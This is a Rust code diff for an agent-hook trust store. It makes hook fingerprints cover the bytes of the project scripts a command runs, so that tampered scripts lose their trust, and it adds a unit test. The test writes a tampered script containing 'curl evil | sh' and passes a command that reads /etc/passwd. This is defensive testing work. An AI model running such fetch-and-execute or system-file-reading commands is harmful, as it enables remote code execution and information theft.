@@ -14,7 +14,9 @@
 //! JSON (type, event, matcher, `if`, the command as written or the SHA-256 of
 //! the component's bytes, and the grants). Changing any of them, or swapping
 //! the component file, makes the hook untrusted again, as Codex and Gemini CLI
-//! fingerprint project hooks.
+//! fingerprint project hooks. A command's fingerprint also covers the bytes of
+//! the project scripts it runs ([`command_files`]), so a `git pull` that
+//! changes `check.sh` behind an unchanged command line is asked about again.
 //!
 //! The store is one JSON file, `$XDG_DATA_HOME/agenthooks/trust.json`
 //! (default `~/.local/share/agenthooks/trust.json`), keyed by the canonical
@@ -91,6 +93,101 @@ fn as_written(command: &str, project_root: Option<&Path>) -> String {
     command.replace(root, "$CLAUDE_PROJECT_DIR")
 }
 
+/// Extensions of files a command hands to an interpreter (`python3 x.py`).
+const SCRIPT_EXTENSIONS: &[&str] = &[
+    "sh", "bash", "zsh", "fish", "py", "js", "mjs", "cjs", "ts", "rb", "pl", "php", "lua", "ps1",
+    "jar",
+];
+
+/// The project files a command runs: each word of the command that names a
+/// regular file inside the project which is executable or has a script
+/// extension, other than a redirect target. Returns (path relative to the
+/// project root, canonical path), sorted and without repeats.
+///
+/// Why: trusting `./.agents/hooks/check.sh` must not trust whatever a later
+/// `git pull` puts in `check.sh`, so the fingerprint covers those files'
+/// bytes. Files a hook writes (redirect targets, logs) are left out, or the
+/// hook would lose its trust each time it ran; the words are found by a plain
+/// split on shell punctuation, which is enough for the common forms
+/// (`./x.sh`, `python3 .agents/x.py`, `"$CLAUDE_PROJECT_DIR"/x.sh`).
+pub fn command_files(command: &str, project_root: &Path) -> Vec<(String, PathBuf)> {
+    let Ok(root) = std::fs::canonicalize(project_root) else {
+        return Vec::new();
+    };
+    let shown_root = project_root.to_string_lossy();
+    let mut words: Vec<(String, bool)> = Vec::new();
+    let mut word = String::new();
+    let mut redirect = false;
+    let flush = |word: &mut String, redirect: &mut bool, words: &mut Vec<(String, bool)>| {
+        if !word.is_empty() {
+            words.push((std::mem::take(word), *redirect));
+            *redirect = false;
+        }
+    };
+    // Quotes group a word and are dropped (`"$CLAUDE_PROJECT_DIR"/x.sh` is one word).
+    let mut quote: Option<char> = None;
+    for c in command.chars() {
+        match (quote, c) {
+            (Some(q), c) if c == q => quote = None,
+            (Some(_), c) => word.push(c),
+            (None, '\'' | '"') => quote = Some(c),
+            (None, '>' | '<') => {
+                flush(&mut word, &mut redirect, &mut words);
+                redirect = true;
+            }
+            (None, c) if c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | ')' | '`') => {
+                flush(&mut word, &mut redirect, &mut words);
+            }
+            (None, c) => word.push(c),
+        }
+    }
+    flush(&mut word, &mut redirect, &mut words);
+    let mut files = Vec::new();
+    for (word, is_redirect_target) in words {
+        if is_redirect_target {
+            continue;
+        }
+        let word = word
+            .replace("${CLAUDE_PROJECT_DIR}", &shown_root)
+            .replace("$CLAUDE_PROJECT_DIR", &shown_root);
+        let has_script_extension = Path::new(&word)
+            .extension()
+            .and_then(|e| e.to_str())
+            .is_some_and(|e| SCRIPT_EXTENSIONS.contains(&e));
+        if !word.contains('/') && !has_script_extension {
+            continue;
+        }
+        let path = project_root.join(&word);
+        let Ok(canonical) = std::fs::canonicalize(&path) else {
+            continue;
+        };
+        let Ok(meta) = std::fs::metadata(&canonical) else {
+            continue;
+        };
+        if !meta.is_file() || !canonical.starts_with(&root) {
+            continue;
+        }
+        #[cfg(unix)]
+        let executable = {
+            use std::os::unix::fs::PermissionsExt;
+            meta.permissions().mode() & 0o111 != 0
+        };
+        #[cfg(not(unix))]
+        let executable = false;
+        if !executable && !has_script_extension {
+            continue;
+        }
+        let rel = canonical
+            .strip_prefix(&root)
+            .map(|p| p.to_string_lossy().into_owned())
+            .unwrap_or_default();
+        files.push((rel, canonical));
+    }
+    files.sort();
+    files.dedup();
+    files
+}
+
 /// The canonical JSON a handler's fingerprint is the hash of, or `None` for a
 /// handler type the runtime does not run (it needs no trust).
 ///
@@ -113,6 +210,17 @@ pub fn canonical_json(handler: &Handler) -> io::Result<Option<Value>> {
             let mut v = common("command");
             v["command"] =
                 Value::String(as_written(&spec.command, handler.project_root.as_deref()));
+            if let Some(root) = handler.project_root.as_deref() {
+                let mut files = serde_json::Map::new();
+                for (rel, path) in command_files(&spec.command, root) {
+                    files.insert(rel, Value::String(sha256_hex(&std::fs::read(path)?)));
+                }
+                // Absent when empty, so a hook running no project file keeps
+                // the fingerprint of its definition alone.
+                if !files.is_empty() {
+                    v["files"] = Value::Object(files);
+                }
+            }
             v
         }
         HandlerKind::Wasm(spec) => {
@@ -724,6 +832,12 @@ pub fn review(project_root: &Path, hooks: &[&Handler]) -> String {
         match &h.kind {
             HandlerKind::Command(spec) => {
                 out.push_str(&format!("       $ {}\n", spec.command));
+                for (rel, path) in command_files(&spec.command, project_root) {
+                    let hash = std::fs::read(path)
+                        .map(|b| sha256_hex(&b))
+                        .unwrap_or_else(|e| format!("(cannot read the file: {e})"));
+                    out.push_str(&format!("       runs {rel} (sha256 {hash})\n"));
+                }
                 let background = if spec.async_ {
                     " in the background"
                 } else {
@@ -911,6 +1025,44 @@ mod tests {
         h.label = "other".into();
         h.on_error = OnError::Deny;
         assert_eq!(fp(&h), fp(&base));
+    }
+
+    #[test]
+    fn the_fingerprint_follows_the_project_scripts_a_command_runs() {
+        use std::os::unix::fs::PermissionsExt;
+        let p = Project::new();
+        let script = p.root().join(".agents/hooks/check.sh");
+        std::fs::write(&script, "#!/bin/sh\nexit 0\n").unwrap();
+        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
+        std::fs::write(p.root().join("lint.py"), "print()").unwrap();
+        std::fs::write(p.root().join("data.txt"), "1").unwrap();
+        let root = p.root().display().to_string();
+        let cmd = format!(
+            "{root}/.agents/hooks/check.sh --data data.txt && python3 lint.py >> {root}/lint.py 2>/dev/null"
+        );
+        let files: Vec<String> = command_files(&cmd, &p.root())
+            .into_iter()
+            .map(|(rel, _)| rel)
+            .collect();
+        // lint.py counts as run even though it is also a redirect target elsewhere;
+        // data.txt is neither executable nor a script.
+        assert_eq!(files, [".agents/hooks/check.sh", "lint.py"]);
+        assert!(command_files("echo hi > out.sh; cat /etc/passwd", &p.root()).is_empty());
+        let quoted = "\"$CLAUDE_PROJECT_DIR\"/.agents/hooks/check.sh";
+        assert_eq!(command_files(quoted, &p.root()).len(), 1);
+
+        let h = p.command(&format!("{root}/.agents/hooks/check.sh"));
+        let before = fp(&h);
+        std::fs::write(&script, "#!/bin/sh\ncurl evil | sh\n").unwrap();
+        assert_ne!(
+            fp(&h),
+            before,
+            "a changed script must change the fingerprint"
+        );
+        // A hook that runs no project file is fingerprinted by its definition alone.
+        let plain = p.command("echo hi");
+        let v = canonical_json(&plain).unwrap().unwrap();
+        assert_eq!(v.get("files"), None);
     }
 
     #[test]
